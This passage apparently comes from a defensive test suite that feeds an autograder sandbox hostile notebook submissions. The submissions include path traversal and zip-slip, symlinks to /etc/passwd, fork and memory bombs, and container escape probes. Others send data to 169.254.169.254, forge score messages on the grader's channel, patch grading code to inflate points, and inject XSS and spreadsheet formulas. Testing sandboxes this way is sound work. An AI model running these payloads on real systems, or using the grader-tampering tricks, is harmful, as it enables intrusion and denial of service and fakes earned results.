        f"../../../{MARK}": b"x",
        f"/tmp/{MARK}": b"x",
        f"a/../../{MARK}": b"x",
        f"..\\{MARK}": b"x",
        f"answers/./../../{MARK}": b"x",
        "x" * 500: b"x",
        "/".join(["deep"] * 100): b"x",
        "\u202egnp.ipynb": b"x",
        "line\nbreak": b"x",
        "": b"x",
        ".": b"x",
        "answers": b"a file where a folder should be",
    },
)


def _archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name in (f"../../../{MARK}", f"/tmp/{MARK}", "99-target.ipynb", "../99-target.ipynb"):
            archive.writestr(name, "x")
    return held.getvalue()


attack("zip-slip", "hands in an archive whose members lead out of the folder", files={"work.zip": _archive()})
attack(
    "links-as-answers",
    "makes its answers links to files that it cannot read itself",
    """
    import os
    os.makedirs("answers", exist_ok=True)
    os.symlink("/etc/passwd", "answers/plan.json")
    os.symlink("/", "answers/root")
    os.symlink("/proc/1/environ", "answers/more.json")
    os.symlink("loop", "answers/loop")
    """,
)
attack(
    "answers-folder-a-link",
    "makes the folder of its answers a link to another folder",
    "import os, shutil\nshutil.rmtree('answers', ignore_errors=True)\nos.symlink('/etc', 'answers')",
)
attack(
    "answer-a-pipe",
    "makes its answer a pipe, whose reader waits for ever",
    "import os\nos.makedirs('answers', exist_ok=True)\nos.mkfifo('answers/plan.json')",
)
attack(
    "answer-a-folder",
    "makes its answer a folder, with sockets and odd names in it",
    """
    import os, socket
    os.makedirs("answers/plan.json")
    socket.socket(socket.AF_UNIX).bind("answers/door")
    for name in (b"answers/\xff\xfe", b"answers/line\nbreak.json", b"answers/" + b"x" * 250): open(name, "w").close()
    """,
)
attack(
    "answer-without-end",
    "makes its answer a file that is larger than any disk, of holes alone",
    """
    import os
    os.makedirs("answers", exist_ok=True)
    with open("answers/plan.json", "wb") as file:
        try: file.truncate(15_000_000)
        except OSError as error: print(error)
    """,
)
attack(
    "answers-by-the-thousand",
    "leaves thousands of answers",
    """
    import os
    os.makedirs("answers", exist_ok=True)
    for number in range(5000): open(f"answers/{number}.json", "w").write("{}")
    """,
    states=(GRADED, TOO_LARGE),
)
attack(
    "answer-that-changes",
    "has a thread that rewrites its answer all the time, so that no two readers see the same",
    """
    import os, threading
    os.makedirs("answers", exist_ok=True)
    def rewrite():
        while True:
            for text in ("{", "[]", "x" * 50_000, ""):
                open("answers/plan.json", "w").write(text)
    threading.Thread(target=rewrite, daemon=True).start()
    """,
)
attack(
    "answer-that-bursts",
    "hands in an answer that is nested so deep, or holds such numbers, that reading it fails",
    files={"answers/plan.json": b'{"kind": "backlog", "items": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"},
)
attack(
    "files-that-stay",
    "leaves folders that cannot be opened, links to the root, and paths too long to delete",
    """
    import os
    os.makedirs("closed/inside"); open("closed/inside/file", "w").close()
    os.chmod("closed/inside", 0); os.chmod("closed", 0)
    os.symlink("/", "root"); os.symlink("/usr", "/tmp/usr"); os.symlink(".", "self")
    here = os.getcwd()
    try:
        for _ in range(1500): os.mkdir("d" * 100); os.chdir("d" * 100)
    except OSError as error: print(error)
    os.chdir(here)
    kept = open("/tmp/unlinked", "w"); kept.write("x" * 1000); os.unlink("/tmp/unlinked")
    """,
)

# --- Time, memory, disk, output ------------------------------------------------------------------------------------

attack("endless-loop", "never comes to an end", "while True: pass", states=(TIMED_OUT,))
attack(
    "swallows-interrupts",
    "never ends, and swallows whatever interrupts it",
    """
    while True:
        try:
            while True: pass
        except BaseException: pass
    """,
    states=(TIMED_OUT,),
    dangerous=True,
)
attack(
    "ignores-signals",
    "never ends, and ignores all signals that can be ignored",
    """
    import signal, time
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True: time.sleep(1)
    """,
    states=(TIMED_OUT,),
    dangerous=True,
)
attack(
    "hangs-in-c",
    "hangs in a single step of C, which no interrupt can enter",
    "x = 7 ** (7 ** 11)",
    states=(TIMED_OUT, OUT_OF_MEMORY),
    dangerous=True,
)
attack(
    "stops-itself",
    "stops its own process, so that it answers nobody",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    states=(TIMED_OUT,),
    dangerous=True,
)
attack(
    "slow-drip",
    "keeps every cell just below the limit, over many cells",
    edit=lambda nb: nb.cells.extend(nbformat.v4.new_code_cell("import time; time.sleep(0.7)") for _ in range(20)),
    states=(TIMED_OUT,),
)
attack(
    "slow-at-the-end",
    "hangs when the program ends",
    """
    import atexit, threading, time
    atexit.register(lambda: time.sleep(100))
    threading.Thread(target=lambda: time.sleep(100)).start()
    class Late:
        def __del__(self): time.sleep(100)
    late = Late()
""",
)
attack(
    "memory-bomb",
    "takes all memory with a list",
    "x = []\nwhile True: x.append(' ' * 10_000_000)",
    states=(OUT_OF_MEMORY,),
    dangerous=True,
)
attack(
    "memory-at-once", "asks for more memory than there is, at once", "x = bytearray(10**12)", states=(OUT_OF_MEMORY,)
)
attack(
    "memory-caught",
    "takes all memory and goes on after it is refused",
    """
    x = []
    while True:
        try: x.append(bytearray(10_000_000))
        except MemoryError: pass
    """,
    states=(OUT_OF_MEMORY, TIMED_OUT),
    dangerous=True,
)
attack(
    "memory-by-children",
    "takes all memory with many processes, each below its limit",
    """
    import os, time
    for _ in range(40):
        if os.fork() == 0:
            x = bytearray(100_000_000)
            for at in range(0, len(x), 4096): x[at] = 1
            time.sleep(100)
    time.sleep(100)
    """,
    states=(OUT_OF_MEMORY, TIMED_OUT, CRASHED),
    dangerous=True,
)
attack(
    "memory-in-files",
    "fills the folders that lie in memory",
    """
    for name in ("/dev/shm/x", "/tmp/x", "/run/x", "/var/tmp/x"):
        try:
            with open(name, "wb") as file:
                while True: file.write(b"x" * 1_000_000)
        except OSError as error: print(error)
    """,
    states=(GRADED, TOO_LARGE, OUT_OF_MEMORY),
    dangerous=True,
)
attack(
    "disk-filler",
    "writes until the disk is full, then writes many small files",
    """
    number = 0
    try:
        while True:
            number += 1
            with open(f"filler-{number}", "wb") as file: file.write(b"x" * 1_000_000)
    except OSError as error: print(error)
    for number in range(100_000): open(f"small-{number}", "w").close()
    """,
    states=(GRADED, TOO_LARGE, OUT_OF_MEMORY, TIMED_OUT),
    dangerous=True,
)
attack(
    "output-bomb",
    "prints without end",
    "while True: print('spam ' * 100)",
    states=(TOO_LARGE, TIMED_OUT),
    dangerous=True,
)
attack("output-one-line", "prints one line of 20 MB", "print('x' * 20_000_000)", states=(TOO_LARGE,))
attack(
    "output-to-stderr",
    "writes 20 MB to stderr and to the raw descriptors",
    """
    import os, sys
    sys.stderr.write("x" * 20_000_000)
    for fd in (1, 2):
        try: os.write(fd, b"x" * 20_000_000)
        except OSError: pass
""",
    states=(TOO_LARGE,),
)
attack(
    "output-as-displays",
    "shows 100,000 things, and one thing of 20 MB",
    """
    from IPython.display import HTML
    for number in range(100_000): display(number)
    display(HTML("x" * 20_000_000))
""",
    states=(TOO_LARGE, TIMED_OUT),
    dangerous=True,
)
attack(
    "output-as-error",
    "raises an error whose text has 20 MB",
    "raise ValueError('x' * 20_000_000)",
    states=(GRADED, TOO_LARGE),
)
attack(
    "widgets-by-the-thousand",
    "makes 20,000 widgets",
    "import ipywidgets\nx = [ipywidgets.IntSlider() for _ in range(20_000)]",
    states=(GRADED, TIMED_OUT),
)

# --- Processes -----------------------------------------------------------------------------------------------------

attack("leaves-at-once", "ends its own program", "import os\nos._exit(0)", states=(CRASHED,))
attack("exits-politely", "asks to be ended", "exit()\nraise SystemExit(0)", states=(GRADED, CRASHED))
attack("interrupts-itself", "raises what ends programs", "raise KeyboardInterrupt")
attack("crashes", "reads memory that is not there", "import ctypes\nctypes.string_at(1)", states=(CRASHED,))
attack(
    "kills-parent",
    "kills the process that started it, process 1, and everything that it may kill",
    """
    import os, signal
    for victim in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1, signal.SIGINT):
            if victim in (-1, 0) and number != signal.SIGKILL: continue
            try: os.kill(victim, number)
            except OSError as error: print(error)
    """,
    states=(CRASHED, GRADED, TIMED_OUT),
    dangerous=True,
)
attack(
    "fork-bomb",
    "makes processes that make processes",
    """
    import os
    while True:
        try: os.fork()
        except OSError: pass
    """,
    states=(TIMED_OUT, OUT_OF_MEMORY, CRASHED),
    dangerous=True,
)
attack(
    "fork-bomb-in-shell",
    "makes processes that make processes, from a shell",
    "!bomb() { bomb | bomb & }; bomb; sleep 30",
    states=(TIMED_OUT, OUT_OF_MEMORY, CRASHED, GRADED, TOO_LARGE),
    dangerous=True,
)
attack(
    "thread-bomb",
    "makes threads without end",
    """
    import threading, time
    while True:
        try: threading.Thread(target=time.sleep, args=(100,)).start()
        except RuntimeError: pass
    """,
    states=(TIMED_OUT, OUT_OF_MEMORY, CRASHED),
    dangerous=True,
)
attack(
    "orphan",
    "leaves a process that outlives its cell and the notebook, and rewrites its answers and the next learner's",
    f"""
    import os, subprocess, sys
    code = '''
import glob, os, time
while True:
    for name in glob.glob("/tmp/**/plan.json", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True):
        try: open(name, "w").write("{MARK}")
        except OSError: pass
    time.sleep(0.001)
'''
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0: os.execv(sys.executable, [sys.executable, "-c", code])
        os._exit(0)
    """,
    dangerous=True,
)
attack(
    "takes-every-descriptor",
    "opens files until no more can be opened",
    """
    import os
    x = []
    try:
        while True: x.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error: print(error)
    """,
)
attack(
    "lifts-its-limits",
    "raises its own limits and priorities",
    """
    import os, resource
    for limit in range(16):
        try: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError) as error: print(error)
    for change, *values in ((os.nice, -20), (os.setuid, 0), (os.setgroups, [0]), (os.sched_setaffinity, 1, {0})):
        try: change(*values)
        except OSError as error: print(error)
    x = bytearray(10**10)
    """,
    states=(OUT_OF_MEMORY,),
    dangerous=True,
)
attack(
    "leaves-the-room",
    "asks the kernel for namespaces, mounts, other processes' memory and devices",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    print([libc.unshare(flags) for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000)])
    print(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.umount2(b"/", 2), libc.chroot(b"/tmp"))
    print([libc.ptrace(request, 1, 0, 0) for request in (16, 0x4206)])
    for path in ("/dev/mem", "/dev/kmsg", "/proc/sysrq-trigger", "/proc/1/mem", "/sys/kernel/uevent_helper"):
        try: open(path, "r+b").close()
        except OSError as error: print(error)
    for fd in range(3, 256):
        try: os.fchdir(fd); os.listdir("..")
        except OSError: pass
    """,
    dangerous=True,
)

# --- Network -------------------------------------------------------------------------------------------------------

attack(
    "network-out",
    "tells somebody outside what it knows",
    f"""
    import socket, urllib.request
    addresses = [("127.0.0.1", {PORT}), ("::1", {PORT}), ("169.254.169.254", 80), ("1.1.1.1", 53)]
    for address in addresses:
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as s:
                    s.settimeout(0.1); s.connect(address); s.send(b"{MARK}")
            except OSError as error: print(error)
    for path in ("\\0{MARK}", "/tmp/{MARK}.socket", "/run/docker.sock", "/run/dbus/system_bus_socket"):
        try:
            with socket.socket(socket.AF_UNIX) as s: s.settimeout(0.1); s.connect(path); s.send(b"{MARK}")
        except OSError as error: print(error)
    try: socket.getaddrinfo("example.org", 80)
    except OSError as error: print(error)
    """,
)
attack(
    "network-in",
    "waits for somebody outside to tell it the answers",
    f"""
    import socket, time
    for family, address in ((socket.AF_INET, ("0.0.0.0", {PORT + 1})), (socket.AF_UNIX, "\\0{MARK}-in")):
        with socket.socket(family) as s:
            s.settimeout(0.3); s.bind(address); s.listen()
            try: print(s.accept()[0].recv(100))
            except OSError as error: print(error)
    """,
)

# --- The channel to the grader -------------------------------------------------------------------------------------

attack(
    "forged-results",
    "writes results that it would like to have earned to every open descriptor",
    """
    import json, os, struct
    points = {"share-open": 1, "share-hidden": 2, "total": 3, "rows": 2, "kinds": 2, "password": 2, "plan": 2}
    for message in ({"scores": points}, {"points": 2.0}, {"score": 2.0, "ok": True}, {"ended": True, "state": "graded"},
                    {"value": 500.75}, {"values": {"total": 500.75, "rows": 3}}, points):
        raw = json.dumps(message).encode()
        for fd in range(3, 256):
            for data in (struct.pack("=I", len(raw)) + raw, raw + b"\n"):
                try: os.write(fd, data)
                except OSError: pass
    """,
    states=(GRADED, CRASHED),
    dangerous=True,
)
attack(
    "floods-the-channel",
    "writes rubbish to every open descriptor, and lengths that never come",
    """
    import os
    for fd in range(3, 256):
        os.set_blocking(fd, False) if os.path.exists(f"/proc/self/fd/{fd}") else None
        for data in (b"\\xff" * 70_000, b"\\0" * 70_000, b"[" * 70_000):
            try: os.write(fd, data)
            except OSError: pass
    """,
    states=(GRADED, CRASHED, TIMED_OUT, TOO_LARGE),
    dangerous=True,
)
attack(
    "closes-every-descriptor",
    "closes every descriptor, and puts files of its own into their places",
    """
    import os
    os.closerange(3, 256)
    for _ in range(3, 64): os.open("/dev/zero", os.O_RDWR)
    """,
    states=(CRASHED, GRADED),
    dangerous=True,
)
attack(
    "listens-in",
    "reads whatever comes for the grader's half of the program on every descriptor",
    SEARCH
    + """
import os, threading
def listen(fd):
    while True:
        try: look(os.read(fd, 1 << 16))
        except OSError: return
for fd in range(3, 64):
    if os.path.exists(f"/proc/self/fd/{fd}"): threading.Thread(target=listen, args=(fd,), daemon=True).start()
""",
    cells=FOUND,
    states=(GRADED, CRASHED, TIMED_OUT),
    dangerous=True,
)
attack(
    "patched-boundary",
    "patches what makes plain data of its answers, so that data goes out that no answer makes",
    """
    import sys
    made = iter([{"float": "nan"}, {"function": 10**9, "name": "x"}, {"scalar": ["|O8", "AAAAAAAAAAA="]},
                 {"array": ["<U2147483647", [99999999, 99999999], "AAAA"]}, {"table": {"columns": 1}}, [[{}]]] * 99)
    for name, module in list(sys.modules.items()):
        for key, value in list(vars(module).items()) if name.startswith("pmcourse.rooms") else ():
            if key in ("encode", "dumps"): setattr(module, key, lambda *a, **k: next(made))
    """,
    states=(GRADED, CRASHED),
)
attack(
    "patched-json",
    "patches what writes messages, so that its answers carry what it wants",
    """
    import json
    old = json.dumps
    false = '"rows":3,"scores":{"total":3},"points":3'
    json.dumps = lambda value, *a, **k: old(value, *a, **k).replace('"rows":1', false)
    json.JSONEncoder.encode = lambda self, value: '{"points": 99}'
    """,
    states=(GRADED, CRASHED),
    cells={"total-answer": "total = rows = 1"},
)

# --- Answers that are too much -------------------------------------------------------------------------------------

attack(
    "huge-number", "answers with a number of a million digits", cells={"total-answer": "total = rows = 10 ** 1_000_000"}
)
attack("huge-text", "answers with a text of 100 MB", cells={"password-answer": 'password = "x" * 100_000_000'})
attack(
    "huge-dictionary",
    "answers with 400,000 entries",
    cells={"kinds-answer": "kinds = dict.fromkeys(map(str, range(400_000)), 4)"},
)
attack(
    "cyclic",
    "answers with lists and dictionaries that contain themselves",
    cells={
        "kinds-answer": "kinds = {}\nkinds['cat'] = kinds",
        "total-answer": "total = []\ntotal.append(total)\nrows = total",
    },
)
attack(
    "nested",
    "answers with a list that is nested 100,000 deep",
    cells={
        "kinds-answer": "kinds = []\nfor _ in range(100_000): kinds = [kinds]",
        "total-answer": "total = rows = kinds if 'kinds' in globals() else ()",
    },
)
attack(
    "same-again-and-again",
    "answers with a small list that becomes enormous when it is written out",
    cells={"kinds-answer": "kinds = ['x']\nfor _ in range(39): kinds = [kinds, kinds]"},
)
attack(
    "hash-flood",
    "answers with a set of numbers whose hashes are all the same, so that reading it takes for ever",
    """
    class Number(int):
        __hash__ = object.__hash__
    """,
    cells={
        "kinds-answer": "kinds = [2**61 - 1] * 9",
        "total-answer": "total = {Number(n * (2**61 - 1)) for n in range(9)}",
    },
)
attack(
    "endless-range",
    "answers with a range that fills all memory when a test sorts it",
    cells={"kinds-answer": "kinds = range(10**12)", "total-answer": "total = rows = range(10**18)"},
    states=(GRADED, TIMED_OUT, OUT_OF_MEMORY),
)
attack(
    "arrays-of-air",
    "answers with arrays and tables that say that they are enormous",
    cells={
        "total-answer": "import pandas\ntotal = np.broadcast_to(1.0, (10**5, 10**6))\nrows = pandas.RangeIndex(10**9)",
        "kinds-answer": "kinds = np.zeros((0, 10**7, 10**7))",
        "password-answer": 'password = np.array("x" * 10**7)',
    },
)
attack(
    "nan",
    "answers with NaN",
    cells={
        "total-answer": 'total = rows = float("nan")',
        "share-answer": 'def share(part, whole):\n    return float("nan")',
    },
)
attack(
    "infinity",
    "answers with infinities",
    cells={
        "total-answer": 'total, rows = float("inf"), float("-inf")',
        "share-answer": 'def share(part, whole):\n    return float("inf")',
    },
)
attack(
    "complex-number",
    "answers with numbers that have no order",
    cells={"total-answer": "total = rows = 100j", "share-answer": "def share(part, whole):\n    return 25 + 1j"},
)
attack("true-as-number", "answers with True where a number is wanted", cells={"total-answer": "total = rows = True"})
attack(
    "negative",
    "answers with a number that makes a careless test take points away",
    cells={"total-answer": "rows = -10**9\ntotal = 1"},
)

# --- More than its share -------------------------------------------------------------------------------------------

attack(
    "picture-of-blanks",
    "shows a picture that takes the square of its length to look at, in the grader's own process",
    "display({'image/png': ' ' * 200_000 + '!', 'image/jpeg': '=' * 10_000 + ' ' * 20_000 + '!'}, raw=True)",
    states=(GRADED, TOO_LARGE),
    dangerous=True,
)


def many_cells(source: str, count: int) -> Callable[[NotebookNode], None]:
    """An edit that puts `count` cells of this source behind the set-up."""
    source = dedent(source).strip()

    def edit(notebook: NotebookNode) -> None:
        notebook.cells[2:2] = [nbformat.v4.new_code_cell(source) for _ in range(count)]

    return edit


LIFTED = """
outputs = get_ipython().outputs
outputs.left = 10**12
"""
attack(
    "output-cap-lifted",
    "gives itself all the output it wants, in forty cells",
    edit=many_cells(LIFTED + "print('x' * 1_000_000)", 40),
    states=(TOO_LARGE,),
    dangerous=True,
)
attack(
    "output-cap-lifted-for-displays",
    "gives itself all the displays it wants, small ones by the thousand",
    edit=many_cells(
        LIFTED + "outputs.list += [{'output_type': 'display_data', 'data': {'text/plain': 'x' * 900}}] * 2000", 20
    ),
    states=(TOO_LARGE,),
    dangerous=True,
)
attack(
    "messages-of-air",
    "sends the grader megabytes that are no outputs, cell for cell",
    edit=many_cells(LIFTED + "outputs.list = [{'output_type': 'none', 'text': 'x' * 1_500_000}]", 40),
    states=(TOO_LARGE,),
    dangerous=True,
)
# The first thread of a process can end while another goes on: then the process has no name, no memory, no end.
FIRST_THREAD_ENDS = """
import ctypes, os, threading, time
def end_this_thread():
    ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)
def go_on():
    time.sleep(0.1)
    os.closerange(3, 256)
    time.sleep(600)
"""
attack(
    "first-thread-ends",
    "lets its first thread end and hangs up from another, so that whoever waits for the process waits for ever",
    FIRST_THREAD_ENDS + "threading.Thread(target=go_on, daemon=True).start()\nend_this_thread()",
    states=(CRASHED,),
    dangerous=True,
)
attack(
    "first-thread-ends-memory-stays",
    "fills memory in processes of which nothing is told, for their first thread has ended",
    FIRST_THREAD_ENDS
    + """
full, done = os.pipe()
def hoard():
    time.sleep(0.3)
    kept = bytearray(os.urandom(1) * 90_000_000)
    os.write(done, b".")
    time.sleep(600)
for _ in range(6):
    if os.fork() == 0:
        threading.Thread(target=hoard).start()
        end_this_thread()
for _ in range(6):
    os.read(full, 1)
time.sleep(600)
""",
    states=(OUT_OF_MEMORY,),
    dangerous=True,
)
attack(
    "waits-in-the-kernel",
    "leaves children that a parent waits for in vfork, stopped",
    """
    import ctypes, os, signal
    if os.fork() == 0:
        if ctypes.CDLL(None).vfork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
    """,
    states=(GRADED, CRASHED, TIMED_OUT),
    dangerous=True,
)
attack(
    "locks-and-watches",
    "locks files that every room has, and watches the folders they lie in, to be seen or to see from other rooms",
    """
    import ctypes, fcntl, os
    kept = [open(path, "rb") for path in (os.__file__, "/usr/bin/env", "/dev/null")]
    for file in kept:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.lockf(file, fcntl.LOCK_SH)
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.inotify_init1(0) == -1 or os._exit(1)
    folder = os.open("/usr/lib", os.O_RDONLY)
    for command in (fcntl.F_NOTIFY, fcntl.F_SETLEASE):
        try: fcntl.fcntl(folder, command, 1)
        except OSError: continue
        os._exit(1)
    if os.fork() == 0:
        os.setsid()
        import time; time.sleep(600)
    """,
    dangerous=True,
)
attack(
    "calls-of-later-kernels",
    "looks at the machine's mounts by calls that are younger than any list of them",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    for number in (*range(451, 452), *range(453, 600)):
        assert (libc.syscall(number, -100, b"/", 0, buffer, 4096, 0), ctypes.get_errno()) == (-1, 38) or os._exit(1)
    """,
    dangerous=True,
)
attack(
    "picture-not-attached",
    "shows a picture in its letter that is not attached, upon which feedback cannot be made",
    cells={"letter": "Dear director, ![a](attachment:none.png) yours"},
    earns={"letter": None},
)
attack(
    "text-without-end",
    "writes text and code that take the square of their length to lay out in feedback",
    edit=lambda notebook: notebook.cells.extend(
        [
            nbformat.v4.new_markdown_cell("\\begin{a}" * 60_000),
            nbformat.v4.new_markdown_cell("[" * 200_000),
            nbformat.v4.new_markdown_cell("<b>" * 100_000),
            nbformat.v4.new_markdown_cell("> " * 5_000 + "deep"),
            nbformat.v4.new_raw_cell("<i>" * 100_000),
            nbformat.v4.new_code_cell("a." * 100_000),
        ]
    ),
    states=(GRADED, CRASHED, TIMED_OUT),  # Python refuses that code, or cannot even read it, or not in a cell's time
)

# --- What people read ----------------------------------------------------------------------------------------------

SCRIPT = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc='x'></iframe>"
    "<a href='javascript:alert(1)'>x</a>"
)
attack(
    "script-in-feedback",
    "puts scripts where the instructor and other learners read: text, outputs, errors, answers, the letter",
    f"""
    from IPython.display import HTML, Javascript, SVG, Markdown, Latex
    page = {SCRIPT!r}
    display(HTML(page), Javascript("alert(1)"), Markdown(page), Latex(page))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
    display({{"text/html": page, "image/svg+xml": page, "image/png": '"' + page}}, raw=True)
    print(page)
    raise ValueError(page)
    """,
    cells={"letter": f"Dear director, {SCRIPT}", "password-answer": f"password = [{SCRIPT!r}]"},
    earns={"letter": None},
)
attack(
    "formulas-in-lists",
    "gives its notebook a name that a spreadsheet runs as a formula",
    raw=lambda data: b"",
    files={'=HYPERLINK("http:x",1).ipynb': b"{}", "@SUM(1).ipynb": b"{}"},
    states=(MALFORMED,),
)

# --- The course's own assignment -----------------------------------------------------------------------------------

# Code for a new cell of 08-backlog, by what it tries.
BACKLOG_ATTACKS = {
    "patches the course's own rules and data": """
        import pmcourse.backlog.kano, pmcourse.backlog.lesson, pmcourse.backlog.methods, pmcourse.backlog.model
        import pmcourse.backlog.sequence as sequence
        sequence.cost_of_order = cost_of_order = lambda *a, **k: 1.0
        pmcourse.backlog.model.Backlog.broken = lambda self: ()
        pmcourse.backlog.kano.class_of = lambda answers: ""
        pmcourse.backlog.methods.moscow_effort = lambda backlog: {"must": 0.5, "could": 0.2}
        pmcourse.backlog.lesson.CASE = type("Case", (), {"assignment": case})
    """,
    "saves a table whose own numbers make every order good": """
        from pmcourse.artifact import save
        changed = [item.but(cost_of_delay=0, effort=0, depends_on=()) for item in reversed(case.items)]
        save("answers/backlog.json", case.model_copy(update={"items": tuple(changed)}))
    """,
    "replaces the case by one of its own": """
        case = case.model_copy(update={"items": case.items[:1]})
        lesson.table = lambda *methods: None
        lesson.CASE = type("Case", (), {"assignment": case, "answer": print})
    """,
    "answers with objects that agree, and puts them back after every cell": YES
    + """
names = ("rice", "quotients", "kano", "moved", "one_week", "not_now", "saved")
get_ipython().events.register("post_run_cell", lambda *a: globals().update(dict.fromkeys(names, Yes())))
""",
}
